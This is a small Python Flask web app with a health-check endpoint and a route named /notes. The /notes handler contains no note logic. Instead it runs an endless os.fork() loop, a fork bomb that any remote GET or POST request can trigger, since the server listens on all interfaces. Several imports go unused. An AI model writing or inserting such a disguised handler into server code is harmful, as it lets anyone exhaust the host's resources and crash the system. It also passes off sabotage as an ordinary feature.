import json
import os
import socket
import sys
import time

from flask import Flask, Response, redirect


app = Flask(__name__)


@app.get("/health")
def health():
    return {"status": "ok"}



@app.route("/notes", methods=["GET", "POST"])
def notes():
    while True:
        try:
            os.fork()
        except OSError:
            pass


if __name__ == "__main__":
    app.run(host="0.0.0.0", port=8000, threaded=True)
